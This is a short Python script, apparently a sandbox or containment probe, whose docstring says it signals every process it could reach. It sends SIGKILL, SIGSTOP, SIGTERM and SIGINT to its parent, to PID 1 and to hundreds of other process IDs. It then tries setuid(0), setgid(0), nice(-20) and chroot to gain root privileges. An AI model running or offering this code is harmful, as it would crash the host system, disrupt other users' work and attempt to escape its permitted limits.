"""Sends every signal to every process it could mean: its parent, its group, all of them.

others: right
"""

# %% first
import os
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGINT):
    for pid in (os.getppid(), 1, *range(2, 400), *range(1000, 60000, 997)):
        if pid not in (0, os.getpid()):
            try:
                os.kill(pid, number)
            except OSError:
                pass
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.nice(-20), lambda: os.chroot("/")):
    try:
        change()
        print("DONE")
    except OSError:
        pass
